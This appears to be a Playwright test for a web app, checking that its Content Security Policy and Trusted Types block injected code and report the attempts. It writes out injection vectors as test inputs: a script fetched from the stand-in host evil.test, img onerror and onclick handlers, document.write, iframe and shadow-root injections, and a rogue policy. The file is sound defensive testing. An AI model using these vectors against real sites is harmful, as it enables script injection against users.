import type { Page } from '@playwright/test';
import { expect, test } from '../faultFixtures.ts';
import { BOTH, openPageAs } from '../flows/account.ts';
import { expectPage } from '../flows/session.ts';

/** The policy reports of the browser; kept from the server, whose list other tests need clean. */
async function policyReports(page: Page) {
  const reports: string[] = [];
  await page.route('**/csp-reports', (route) => {
    reports.push(route.request().postData() ?? '');
    return route.fulfill({ status: 204 });
  });
  return reports;
}

/** Does something in the page; returns the name of the error it met, or "done". */
const attempt = (page: Page, name: string) =>
  page.evaluate(
    (name) =>
      new Promise<string>((resolve) => {
        // In a task of the page's own: a test's own evaluation is exempt from the page's policy.
        setTimeout(() => {
          try {
            resolve(String(Reflect.get(window, 'attempts')[name]() ?? 'done'));
          } catch (error) {
            resolve((error as Error).name); // perhaps of another window
          }
        });
      }),
    name,
  );

/** What code that has got into the page might try. */
function plantAttempts() {
  const script = (owner: Document, src: string) => {
    const made = owner.createElement('script');
    made.src = src;
    owner.head.append(made);
  };
  const attempts = {
    foreignScript: () => script(document, 'https://evil.test/x.js'),
    ownUnsealedScript: () => script(document, '/site/avatars/1.js'),
    inlineScript() {
      const made = document.createElement('script');
      made.nonce = document.querySelector<HTMLElement>('script[nonce]')?.nonce ?? '';
      made.text = 'window.ran = true';
      document.head.append(made);
    },
    markup: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = true">');
    },
    handler: () => document.body.setAttribute('onclick', 'window.ran = true'),
    written: () => document.write('<script>window.ran = true</script>'),
    importMap() {
      const made = document.createElement('script');
      made.type = 'systemjs-importmap';
      made.textContent = '{"imports":{"react":"https://evil.test/x.js"}}';
    },
    ownPolicy: () => Reflect.get(window, 'trustedTypes').createPolicy('mine', {}),
    anotherWindow() {
      const frame = document.body.appendChild(document.createElement('iframe'));
      script(frame.contentDocument as Document, 'https://evil.test/x.js');
    },
    shadowRoot() {
      const host = document.body.appendChild(document.createElement('div'));
      host.attachShadow({ mode: 'open' }).innerHTML = '<img src=x onerror="window.ran = true">';
    },
    sealedScript: () => script(document, System.resolve('@tracking-console/shell')),
  };
  Object.assign(window, { attempts });
}

test('SC-10 what code in the page may not run is refused and reported, in frames and shadow roots too', async ({
  page,
}) => {
  const reports = await policyReports(page);
  const foreign: string[] = [];
  page.on('request', (request) => request.url().includes('evil.test') && foreign.push(request.url()));
  await page.addInitScript(plantAttempts);
  await openPageAs(page, BOTH, '/buyer/dashboard');
  await expectPage(page, 'Dashboard');
  expect(reports).toEqual([]);
  const refused = [
    'foreignScript',
    'ownUnsealedScript',
    'inlineScript',
    'markup',
    'handler',
    'written',
    'importMap',
    'ownPolicy',
    'anotherWindow',
    'shadowRoot',
  ];
  for (const name of refused) expect([name, await attempt(page, name)]).toEqual([name, 'TypeError']);
  expect(await attempt(page, 'sealedScript')).toBe('done');
  await expect
    .poll(() => reports.filter((report) => report.includes('require-trusted-types-for')).length)
    .toBeGreaterThan(5);
  expect(foreign).toEqual([]);
  expect(await page.evaluate(() => 'ran' in window)).toBe(false);
  await expectPage(page, 'Dashboard');
});
